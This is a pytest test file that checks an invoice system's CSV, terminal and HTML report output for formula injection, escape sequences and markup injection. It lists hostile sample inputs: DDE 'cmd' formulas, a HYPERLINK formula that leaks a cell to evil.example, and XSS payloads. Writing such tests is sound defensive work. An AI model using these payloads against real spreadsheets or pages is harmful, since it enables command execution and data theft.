"""What a vendor writes on a page arrives in spreadsheets, on terminals and in reports: as text."""

import csv
import io
import json
import unicodedata
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from data.corpora.truth import TrueDocument, TrueItem
from data.safe_text import display_text
from serving.presentation.prose import verdict_prose
from serving.presentation.spreadsheet import COLUMNS, text_cell, verdict_csv
from serving.presentation.tables import document_tables, verdict_tables
from training.metrics.scoring import score_documents
from training.report.gallery import gallery_html

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
WRITTEN = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "+1-800-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "M8;=1+1",
    'x";=1+1;"',
    "M8; =1+1",
    "\x1b[2J\x1b]0;title\x07",
    "<script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    "\ud800",
    "",
)


@pytest.fixture(scope="session")
def naughty(shared: Path) -> list[str]:
    """The Big List of Naughty Strings."""
    found = json.loads((shared / "hostile" / "blns" / "blns.json").read_text(encoding="utf-8"))
    assert len(found) > 500
    return [str(one) for one in found]


def verdict_with(text: str, billed: str = "10") -> dict[str, Any]:
    """A verdict that shows `text` wherever a vendor's or a buyer's words may stand."""
    place = {"document_id": "d", "page": 1, "polygon": None, "field": "amount", "raw_text": text}
    line = {
        "po_line_number": "1",
        "description": text,
        "verdict": "needs_review",
        **{"billed": billed, "ordered": "8", "received": "8", "unit": text},
        "reasons": [text],
        "document_id": "d",
        "page": 1,
        "polygon": None,
    }
    return {
        "status": "needs_review",
        "po_number": text,
        "papers": {"d": f"invoice {text}"},
        "lines": [line, {**line, "po_line_number": None}],
        "variances": [
            {
                "code": "QTY_OVER_RECEIPT",
                "state": "open",
                "po_line_number": "1",
                **{"quantity": "2", "amount": "-4.00", "currency": text, "unit": text},
                "formula": text,
                "explanation": text,
                "confidence": 0.97,
                "evidence": [place],
                "recommended_action": text,
            }
        ],
        "totals": {},
        "recommendation": text,
        "problems": [{"code": "page_too_dense", "message": text, "page": 1}],
        "settlements": [
            {
                "claim_id": text,
                "invoice_id": text,
                "po_line_number": text,
                "recommendation": "repay",
                **{"repay": "1.00", "stands": "0.00", "currency": text, "unit": text},
                **{"formula": text, "reasons": [text], "missing": [], "confidence": 0.5},
            }
        ],
        "message": text,
    }


def cells_of(sheet: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet, newline=""), delimiter=delimiter))


def assert_runs_nothing(text: str) -> None:
    sheet = verdict_csv(verdict_with(text))
    rows = cells_of(sheet)
    assert [len(row) for row in rows] == [len(COLUMNS)] * 5
    for row in rows[1:]:
        by_name = dict(zip(COLUMNS, row, strict=True))
        assert by_name["amount"] in ("", "-4.00", "1.00")
        for name, cell in by_name.items():
            assert name == "amount" or not cell.lstrip().startswith(FORMULAS), (name, cell)
    # Where a comma is the decimal mark, cells are parted at semicolons.
    for row in cells_of(sheet, ";"):
        assert not any(cell.lstrip().startswith(FORMULAS) for cell in row[1:]), row
    sheet.encode()


@pytest.mark.parametrize("text", WRITTEN, ids=ascii)
def test_no_cell_is_a_formula(text: str) -> None:
    assert_runs_nothing(text)


def test_no_naughty_string_is_a_formula(naughty: Sequence[str]) -> None:
    for text in naughty:
        assert_runs_nothing(text)


@given(st.text())
def test_no_text_at_all_is_a_formula(text: str) -> None:
    cell = text_cell(text)
    assert not cell.lstrip().startswith(FORMULAS)
    assert cell.replace("'", "") == display_text(text).replace("'", "")


def test_numbers_that_are_ours_stay_numbers() -> None:
    rows = cells_of(verdict_csv(verdict_with("A-1", billed="-10")))
    line = dict(zip(COLUMNS, rows[1], strict=True))
    finding = dict(zip(COLUMNS, rows[2], strict=True))
    assert (line["billed"], line["ordered"]) == ("-10", "8")
    assert (finding["amount"], finding["quantity"], finding["confidence"]) == ("-4.00", "2", "0.97")
    # A number column that holds something else is text.
    rows = cells_of(verdict_csv(verdict_with("A-1", billed="-1+1")))
    assert dict(zip(COLUMNS, rows[1], strict=True))["billed"] == "'-1+1"


def test_every_row_of_a_sheet_says_what_it_is() -> None:
    rows = cells_of(verdict_csv(verdict_with("A-1")))
    kinds = [dict(zip(COLUMNS, row, strict=True))["row"] for row in rows[1:]]
    assert kinds == ["line", "finding", "settlement", "problem"]
    assert {row[1] for row in rows[1:]} == {"needs_review"}


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("Bolt M8 × 20, –5 °C", "Bolt M8 × 20, –5 °C"),
        ("Schraube\u00a0M8", "Schraube\u00a0M8"),
        ("a\tb\r\nc\u2028d", "a b  c d"),
        ("\u202dinvoice\u202c \u2066x\u2069\u200f", "invoice x"),
        ("\x1b[31mred\x9b0m", "[31mred0m"),
        ("\ufeffzero\u200bwidth\u00ad", "zerowidth"),
        ("tag\U000e0041", "tag"),
        ("half \ud83d pair", "half  pair"),
        ("\U0001f469\u200d\U0001f527", "\U0001f469\u200d\U0001f527"),
        ("\u0600\u0661", "\u0600\u0661"),
        ("", ""),
    ],
    ids=ascii,
)
def test_what_is_shown_of_a_text(written: str, seen: str) -> None:
    assert display_text(written) == seen


@given(st.text())
def test_what_is_shown_controls_nothing_and_is_shown_again_as_it_is(text: str) -> None:
    seen = display_text(text)
    assert display_text(seen) == seen
    assert not {"Cc", "Cs", "Zl", "Zp"} & {unicodedata.category(sign) for sign in seen}
    assert not set(seen) & set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2069")
    seen.encode()


def printed(*parts: Any) -> str:
    console = Console(file=io.StringIO(), width=200, color_system=None)
    for part in parts:
        console.print(part)
    written = console.file
    assert isinstance(written, io.StringIO)
    return written.getvalue()


def on_a_terminal(text: str) -> str:
    verdict = verdict_with(text)
    leaf = {"value": text, "confidence": 0.9}
    document = {
        "document_id": text,
        "document_type": leaf,
        "fields": {"vendor_name": leaf},
        "line_items": [{"description": leaf, "page": 1}],
        "problems": verdict["problems"],
    }
    return printed(document_tables(document), verdict_tables(verdict), *verdict_prose(verdict))


def test_nothing_steers_the_terminal(naughty: Sequence[str]) -> None:
    for text in (*WRITTEN, *naughty):
        seen = on_a_terminal(text)
        assert "\x1b" not in seen
        assert "\u202e" not in seen
        assert not {sign for sign in seen if unicodedata.category(sign) == "Cc"} - {"\n"}, text


def test_markup_is_no_style_of_ours() -> None:
    assert "[bold]cheap[/bold]" in on_a_terminal("[bold]cheap[/bold]")


class Tags(HTMLParser):
    """Which tags and attributes a page really has."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.seen.update(f"{tag} {name}" for name, _ in attrs)


def tags_of(page: str) -> set[str]:
    parser = Tags()
    parser.feed(page)
    return parser.seen


def gallery_with(text: str) -> str:
    truth = TrueDocument(
        document_id=f"{text} ",
        path=None,
        document_type="invoice",
        fields={"invoice_id": text or "4711"},
        fields_visible=frozenset({"invoice_id"}),
        items=(
            TrueItem(
                {"amount": "10.00", "description": text or "Bolt"},
                frozenset({"amount", "description"}),
            ),
        ),
        excluded=(),
        labels="made here",
        extra={},
    )
    said = {
        "document_type": text,
        "fields": {"invoice_id": f"{text}1"},
        "line_items": [{"amount": "11.00", "description": f"{text}2"}],
    }
    return gallery_html(score_documents([truth], {truth.document_id: said}))


def test_no_naughty_string_is_markup_in_a_report(naughty: Sequence[str]) -> None:
    harmless = tags_of(gallery_with("Bolt"))
    assert "table" in harmless
    for text in (*WRITTEN, *naughty):
        page = gallery_with(text)
        assert tags_of(page) <= harmless, text
        page.encode()
